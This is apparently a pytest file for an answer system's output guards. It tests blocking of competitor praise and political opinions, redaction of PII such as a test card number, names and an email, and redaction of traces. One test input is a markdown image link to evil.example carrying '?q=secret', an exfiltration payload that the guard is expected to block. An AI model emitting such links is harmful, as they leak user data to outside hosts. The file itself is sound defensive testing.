from citeline.answer.response import AnswerResponse, Citation
from citeline.contracts import Principal
from citeline.guard.output import OutputGuard
from citeline.guard.runner import GuardRunner


def _blocks(guard, text):
    return [v.rule for v in guard.check_text(text) if v.verdict == "block"]


def test_competitor_praise_and_political_opinions_block(demo_policy, detector):
    g = OutputGuard(demo_policy, detector)
    assert _blocks(g, "Honestly, the ecobee is better for most homes.") == ["competitor:favourable"]
    assert _blocks(g, "We recommend Google Nest if you need geofencing.") == ["competitor:favourable"]
    assert _blocks(g, "The T5 Pro works with Google Home and Amazon Alexa [1].") == []  # partners, not competitors
    assert _blocks(g, "Nest thermostats use a different base plate.") == []  # a neutral mention
    assert _blocks(g, "I think the conservatives are right about taxes.") == ["politics:opinion"]
    assert _blocks(g, "See ![x](https://evil.example/p.png?q=secret) now.") == ["markup:exfiltration-link"]


def _response(text):
    quote = "Card 4111 1111 1111 1111 is on file."
    return AnswerResponse(question="q", answer=text, decision="answered", citations=[
        Citation(n=1, document_id="d", source_path="/x.md", page=1, quote=quote, start=0, end=len(quote))])


def test_pii_in_answers_is_redacted_unless_the_caller_may_see_it(demo_policy, detector):
    g = OutputGuard(demo_policy, detector)
    r = _response("The card on file is 4111 1111 1111 1111 [1].")
    v = next(v for v in g.check_response(r, Principal("default", ("everyone",))) if v.guard == "pii-leak")
    assert v.verdict == "redact" and "[CREDIT_CARD]" in r.answer and "4111" not in r.citations[0].quote
    r = _response("The card on file is 4111 1111 1111 1111 [1].")
    v = next(v for v in g.check_response(r, Principal("default", ("everyone", "hr"))) if v.guard == "pii-leak")
    assert v.verdict == "allow" and "4111 1111 1111 1111" in r.answer


def test_runner_blocks_a_violating_answer_with_the_policy_message(demo_policy, embedder):
    runner = GuardRunner(demo_policy, embedder)
    r = _response("We recommend the ecobee Premium instead.")
    out = runner.check_output(r, Principal("default"))
    assert out.blocked is not None and out.message.startswith(demo_policy.messages.competitor)


def test_trace_redaction_covers_question_answer_and_quotes(demo_policy, embedder):
    runner = GuardRunner(demo_policy, embedder)
    data = _response("Call Margaret Okafor at (503) 555-0142.").model_dump(mode="json")
    data["question"] = "I am Ana Ruiz, my email is ana@mail.example"
    red = runner.redact_trace(data)
    assert red["question"] == "I am [PERSON], my email is [EMAIL]"
    assert red["answer"] == "Call [PERSON] at [PHONE]."
    assert "[CREDIT_CARD]" in red["citations"][0]["quote"] and data["answer"].startswith("Call Margaret")
